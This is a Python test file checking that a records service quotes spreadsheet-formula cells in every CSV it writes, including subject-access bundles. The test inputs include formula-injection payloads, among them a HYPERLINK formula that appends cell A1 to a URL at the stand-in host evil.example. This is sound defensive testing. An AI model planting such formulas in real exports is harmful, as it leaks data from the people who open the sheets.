"""Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return) as a
formula: every CSV the service writes goes through one writer that quotes such cells
(security probe, issue 11, item 6)."""
from __future__ import annotations

import ast
import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from core.csvsafe import safe_cell, writer
from core.records import service as records
from core.records.kinds import BY_SLUG
from core.reviews.service import find_review
from tenants.context import tenant_scope
from tests.factories import sign_in

ROOT = Path(__file__).resolve().parents[2]
HELPER = ROOT / "core" / "csvsafe.py"
FORMULAS = ['=HYPERLINK("https://evil.example","x")', "@SUM(1+1)", "+1", "-1+2",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "out"), [
    ("plain", "plain"), ("", ""), (None, ""), ("a=b", "a=b"), ("'quoted", "'quoted"),
    (3, 3), (-1, -1), (2.5, 2.5), (-0.5, -0.5), (Decimal("-1.5"), Decimal("-1.5")),
    (date(2026, 3, 1), "2026-03-01"), ("Ŵyr", "Ŵyr"),
])
def test_anything_else_is_left_as_it_is(value, out):
    assert safe_cell(value) == out


def test_the_writer_quotes_every_cell_of_every_row():
    out = io.StringIO()
    rows = writer(out)
    rows.writerow(["=1+1", "fine", -3])
    rows.writerows([["@x", None], ["+y", "-z"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "fine", "-3"], ["'@x", ""], ["'+y", "'-z"]]


def test_a_formula_in_a_mention_is_quoted_in_the_subject_access_bundle(client, world):
    alpha = world.tenants["alpha"]
    with tenant_scope(alpha.id):
        review = find_review(world.reviews["alpha"][0].id)
        records.add_record(review, BY_SLUG["family-contacts"], {
            "contacted_on": date(2026, 3, 5), "relationship": "sister",
            "method": "meeting", "contribution": "given",
            "summary": '=HYPERLINK("https://evil.example/?"&A1,"Seeded Sister")'})
    sign_in(client, "csp_chair@alpha.test")
    created = client.post("/t/alpha/subject-access", data={
        "requester": "A family member (invented)", "terms": "Seeded Sister\n",
        "received_on-day": "2", "received_on-month": "10", "received_on-year": "2026"})
    bundle = client.get(created.headers["Location"] + "/bundle")
    with zipfile.ZipFile(io.BytesIO(bundle.data)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("mentions.csv").decode())))
    snippets = [r["text around it"] for r in rows if r["place"] == "family_contacts"]
    assert snippets and all(s.startswith("'=HYPERLINK(") for s in snippets), snippets
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def _writes_csv_or_a_sheet(tree: ast.AST) -> list[int]:
    """Lines that build a CSV writer or touch a spreadsheet library."""
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
                and node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
            lines.append(node.lineno)
        elif isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                a.name in ("writer", "DictWriter", "*") for a in node.names):
            lines.append(node.lineno)
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) \
                else [node.module or ""]
            if any(m.split(".")[0] in ("openpyxl", "xlsxwriter", "xlwt", "pandas")
                   for m in modules):
                lines.append(node.lineno)
    return lines


def test_no_module_writes_a_csv_or_a_sheet_but_through_the_helper():
    offenders = {}
    for folder in ("core", "plugins", "tenants"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == HELPER:
                continue
            found = _writes_csv_or_a_sheet(ast.parse(path.read_text(), str(path)))
            if found:
                offenders[str(path.relative_to(ROOT))] = found
    assert offenders == {}
    assert _writes_csv_or_a_sheet(ast.parse(HELPER.read_text()))  # the check can see one
